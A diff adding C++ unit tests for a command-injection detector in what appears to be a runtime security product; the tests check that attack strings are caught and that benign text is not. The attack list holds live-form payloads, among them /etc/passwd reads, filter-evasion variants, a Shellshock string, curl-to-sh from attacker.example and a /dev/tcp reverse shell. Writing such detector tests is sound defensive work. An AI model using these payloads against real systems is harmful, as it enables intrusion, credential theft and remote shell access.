@@ -1,0 +1,124 @@
+#include <string>
+#include <vector>
+
+#include "gtest/gtest.h"
+#include "runtime/detect/detector.h"
+#include "tests/unit/detect/detector_cases.h"
+
+namespace fnguard::detect {
+namespace {
+
+using testing::Case;
+using testing::Detects;
+
+std::string Repeat(const std::string& s, size_t n) {
+  std::string r;
+  r.reserve(s.size() * n);
+  for (size_t i = 0; i < n; ++i) r += s;
+  return r;
+}
+
+TEST(CmdiTest, DetectsAttacks) {
+  const std::vector<std::string> attacks = {
+      "; cat /etc/passwd",
+      "x|id",
+      "a && whoami",
+      "|| uname -a",
+      "`uname`",
+      "$(whoami)",
+      "1;c''at /etc/hosts",
+      "q;c\\at /etc/hosts",
+      "x;\"w\"hoami",
+      "1;cat${IFS}/etc/passwd",
+      "1;cat$IFS$9/etc/passwd",
+      "x;{cat,/etc/passwd}",
+      "x;w$@hoami",
+      "x;\tid",
+      "'\nid\n",
+      "/usr/bin/id",
+      "x | /bin/ls -la",
+      "& dir c:\\",
+      "| type c:\\windows\\win.ini",
+      "& %COMSPEC% /c dir",
+      "a; ping -c 10 10.0.0.1",
+      "' ; sleep 30 ;",
+      "x && curl http://attacker.example/s.sh | sh",
+      "wget http://198.51.100.7/x.sh",
+      "() { :;}; /bin/bash -c id",
+      "x; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+      "<!--#exec cmd=\"ls\" -->",
+      ";system('id')",
+      "x; net user attacker P@ss /add",
+      "x;/\?\?\?/c?t /\?\?\?/p\?\?s\?\?",
+  };
+  for (const std::string& a : attacks) {
+    Case c;
+    c.value = a;
+    EXPECT_TRUE(Detects(CmdiDetector(), c)) << a;
+    c.location = event::Location::kBody;
+    c.path = "body.v";
+    EXPECT_TRUE(Detects(CmdiDetector(), c)) << a;
+  }
+}
+
+TEST(CmdiTest, IgnoresBenign) {
+  const std::vector<std::string> benign = {
+      "Tom & Jerry",
+      "R&D",
+      "salt & pepper; sugar",
+      "I ls the files",
+      "cat videos",
+      "| a | b |\n| c | d |",
+      "C:\\Program Files\\App",
+      "Name & ID",
+      "AT&T",
+      "q=1&id=5",
+      "Run `ls` to list",
+      "Usage: cat file",
+      "Kind regards; Dave",
+      "/api/users/id",
+      "Mozilla/5.0 (X11; Linux x86_64)",
+      "curl/7.88.1",
+      "Dogs; cats; birds",
+      "Rock & roll; date night",
+      "x=1; path=/; HttpOnly",
+      "I love Ruby; Python is nicer",
+      "Q&A; more info",
+      "c++ developer",
+      "{\n  id\n  name\n}",
+  };
+  for (const std::string& b : benign) {
+    Case c;
+    c.value = b;
+    Match m;
+    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << b << " -> " << m.rule_id;
+    c.location = event::Location::kBody;
+    c.path = "body.text";
+    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << b << " -> " << m.rule_id;
+  }
+}
+
+TEST(CmdiTest, CompletesOnPathologicalInput) {
+  testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, ';'));
+  testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, '`'));
+  testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, '$'));
+  testing::RunsOnLargeInput(CmdiDetector(), Repeat("; c''a", 1 << 18));
+  testing::RunsOnLargeInput(CmdiDetector(), Repeat("|", 1 << 20));
+}
+
+TEST(CmdiTest, ReportsItsId) {
+  EXPECT_EQ(Get(CmdiDetector().id()).id(), CmdiDetector().id());
+}
+
+TEST(CmdiTest, RuleAndOffsetPointAtCommand) {
+  Case c;
+  c.value = "abc; whoami";
+  Match m;
+  ASSERT_TRUE(Detects(CmdiDetector(), c, &m));
+  EXPECT_EQ(m.rule_id, "cmdi.separator_command");
+  EXPECT_EQ(c.value.substr(m.offset, m.length), "whoami");
+}
+
+
+}  // namespace
+}  // namespace fnguard::detect
